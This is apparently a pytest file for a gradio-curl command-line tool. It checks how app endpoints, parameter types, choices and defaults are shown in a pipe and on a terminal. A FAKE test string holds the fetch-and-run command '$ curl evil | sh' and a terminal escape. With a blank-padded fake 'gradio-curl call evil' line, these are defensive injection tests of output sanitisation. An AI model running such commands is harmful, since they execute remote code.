"""render/info.py and render/info_page.py: what an app offers, in a pipe and on a terminal."""

import re
import shlex
from typing import Any

import pytest

from gradio_curl.protocol.binding import bind
from gradio_curl.protocol.items import parse_items
from gradio_curl.protocol.schema import App, Return
from gradio_curl.render.info import info_object, info_text, limits
from gradio_curl.render.info_page import height, info_page
from tests.unit.described import component, new_app

URL = "http://localhost:7860"
FAKE = "x\n  $ curl evil | sh\r\n/fake\u2028  $ evil\x1b[2J"


def hostile() -> App:
    """An app that puts lines of its own wherever it can name something."""
    app = new_app(run=([component("radio", choices=[FAKE, "b"])], [component("textbox", FAKE)]))
    told = app.endpoint("run")
    parameter = told.parameters[0]._replace(name=FAKE, label=FAKE, default={FAKE: FAKE})
    told = told._replace(name=f"/{FAKE}", description=FAKE, parameters=(parameter,), slots=(FAKE,))
    return app._replace(endpoints={told.name: told}, version=f"6.31.0{FAKE}")


def plain(page: str) -> str:
    """A page without its colours and links."""
    return re.sub(r"\x1b\[[0-9;]*m|\x1b\]8;.*?\x1b\\", "", page)


def test_nothing_that_an_app_says_begins_a_line_like_one_of_ours() -> None:
    app = hostile()
    page = plain(info_page(app, URL, ":7860", app.endpoints.values(), 1000))
    for text in (info_text(app, URL, ":7860", app.endpoints.values()), page):
        assert not any(line.startswith(("  $", "/fake")) for line in text.splitlines())
        assert "\x1b" not in text
        assert len([line for line in text.splitlines() if line.startswith("/")]) == 1


@pytest.mark.parametrize("columns", [40, 80, 200])
def test_no_name_is_broken_and_what_fits_is_in_columns(columns: int) -> None:
    name = "a_parameter_of_a_long_name"
    app = new_app(run=([component("textbox", name), component("slider", "Steps", value=3,
                       minimum=1, maximum=10)], [component("textbox", "Out")]))  # fmt: skip
    page = plain(info_page(app, URL, ":7860", app.endpoints.values(), columns))
    assert re.search(rf"^  {name}=", page, re.MULTILINE)
    if columns == 40:
        assert "\n  steps=\n    number  default 3  1 to 10  Steps\n" in page
    else:
        rows = [line.rstrip() for line in page.splitlines()]
        assert f"  {name}=  string  required" in rows
        assert f"  {'steps='.ljust(27)}  number  default 3  1 to 10  Steps" in rows
    # The line to copy is never wrapped by us.
    assert f"  $ gradio-curl call :7860 /run {name}=text\n" in page


def test_lines_that_the_terminal_wraps_count_for_the_pager() -> None:
    assert height("a\nb\n", 80) == 2
    assert height("\x1b[1m" + "a" * 81 + "\x1b[0m\n\n漢漢\n", 80) == 4
    assert height("漢" * 41, 80) == 2


def test_an_app_without_endpoints_says_so() -> None:
    app = new_app()
    for text in (info_text(app, URL, ":7860", []), info_page(app, URL, ":7860", [], 80)):
        assert "the app does not have a public endpoint" in text


def test_an_endpoint_that_takes_an_oauth_token_is_marked() -> None:
    app = new_app(run=([], []))
    told = app.endpoint("run")._replace(oauth_token="required")
    for text in (info_text(app, URL, ":7860", [told]), info_page(app, URL, ":7860", [told], 80)):
        assert "--oauth-token required" in text
    (endpoint,) = info_object(app, URL, ":7860", [told])["endpoints"]
    assert endpoint["oauth_token"] == "required"


@pytest.mark.parametrize(
    ("kind", "props", "words"),
    [
        ("dataframe", {}, "table"),
        ("json", {}, "JSON"),
        ("multimodaltextbox", {}, "text, files"),
        ("gallery", {}, "files"),
        ("radio", {"choices": [True, False]}, "boolean"),
        ("radio", {"choices": [1, 2.5]}, "number"),
        ("checkboxgroup", {"choices": ["a"]}, "list"),
    ],
)
def test_types_are_told_in_words(kind: str, props: dict[str, Any], words: str) -> None:
    app = new_app(run=([component(kind, **props)], []))
    (row,) = [
        line
        for line in info_text(app, URL, ":7860", app.endpoints.values()).splitlines()
        if line.startswith("  value")
    ]
    assert re.match(rf"  value[=@]  {words}  required", row)


UNION = {"anyOf": [{"type": "integer"}, {"type": "string"}, {"type": "null"}]}
NUMBERS = {"anyOf": [{"type": "integer"}, {"type": "array", "items": {"type": "integer"}}]}


def rows(*inputs: Any) -> list[list[str]]:
    """The cells of the row of each parameter, by two blanks or more."""
    app = new_app(run=(list(inputs), []))
    lines = info_text(app, URL, ":7860", app.endpoints.values()).splitlines()
    return [re.split(r" {2,}", line.strip()) for line in lines[3 : 3 + len(inputs)]]


@pytest.mark.parametrize(
    ("schema", "default", "kind", "cells"),
    [
        (UNION, 5, "integer or string", ["integer or string", "default 5", "u=text or u:=1"]),
        (NUMBERS, 5, "integer or array", ["integer or list", "default 5", "u:=1"]),
    ],
)
def test_a_type_that_is_one_of_several_is_told_with_how_each_is_given(
    schema: Any, default: Any, kind: str, cells: list[str]
) -> None:
    told = component("api", "u", schema, value=default)
    assert rows(told) == [["u=", *cells]]
    app = new_app(run=([told], []))
    (object_,) = info_object(app, URL, ":7860", app.endpoints.values())["endpoints"]
    assert object_["parameters"][0]["type"] == kind


@pytest.mark.parametrize(
    ("choices", "listed"),
    [
        (["two  blanks", "b"], "'two  blanks'|b"),
        (["three   blanks", "a\nb", "tab\t"],
         r""":='"three \u0020\u0020blanks"'|:='"a\nb"'|:='"tab\t"'"""),
        ([1, 1.5, "1"], """1|1.5|:='"1"'"""),
        ([True, "true"], """True (true)|:='"true"'"""),
        ([["One", 1], ["1", 2]], "One (1)|2"),
    ],
)  # fmt: skip
def test_choices_are_shown_as_they_can_be_pasted(choices: list[Any], listed: str) -> None:
    told = component("radio", "Pick", choices=choices)
    run = new_app(run=([told], [])).endpoint("run")
    assert limits(run.parameters[0]) == listed
    for shown, (_, value) in zip(listed.split("|"), run.parameters[0].choices, strict=True):
        (word,) = shlex.split(f"pick{shown if shown[0] == ':' else f'={shown}'}".split(" (")[0])
        data = bind(run, parse_items([word]), read=lambda path: "").data
        assert repr(data) == repr([value])


def test_a_default_is_shown_as_it_is() -> None:
    told = [component("textbox", "a", value=text) for text in ("two  blanks", "a   b\n")]
    app = new_app(run=(told, []))
    text = info_text(app, URL, ":7860", app.endpoints.values())
    assert '  default "two  blanks"' in text
    assert r'  default "a \u0020\u0020b\n"' in text


def test_several_files_that_come_back_are_files() -> None:
    outs = [component("gallery", "Pics"), component("imageslider", "Pair"), component("image", "I")]
    app = new_app(run=([], outs))
    text = info_text(app, URL, ":7860", app.endpoints.values())
    assert "  returns Pics (files), Pair (files), I (file)\n" in text


def test_one_long_name_does_not_make_every_row_as_long() -> None:
    inputs = [component("textbox", name) for name in ("n" * 5000, "a", "b")]
    app = new_app(run=(inputs, []))
    rows = info_text(app, URL, ":7860", app.endpoints.values()).splitlines()[3:6]
    assert rows == [f"  {'n' * 5000}=  string  required", *(f"  {n}=  string  required"
                    for n in "ab")]  # fmt: skip


@pytest.mark.parametrize("blanks", [" " * 60, " \u200b" * 60, "\u3000" * 30])
def test_no_run_of_blanks_fills_a_line_before_what_looks_like_ours(blanks: str) -> None:
    name = f"x{blanks}$ gradio-curl call evil /go"
    app = new_app(run=([component("radio", name, choices=[name], example=name)], []))
    told = app.endpoint("run")
    told = told._replace(name=f"/{name}", returns=(Return(name, "any", name, False),))
    page = plain(info_page(app, URL, ":7860", [told], 1000))
    for text in (info_text(app, URL, ":7860", [told]), page):
        assert "/x␣$ gradio-curl" in text
        assert not re.search(r"\S\s{3,}\$ ", text)
        assert "call :7860" not in text


def test_blanks_after_a_blank_are_escaped_in_a_line_to_paste() -> None:
    app = new_app(run=([component("textbox", "Text", example="a   $ b")], []))
    text = info_text(app, URL, ":7860", app.endpoints.values())
    assert r"""-d '{"text": "a \u0020\u0020$ b"}""" in text
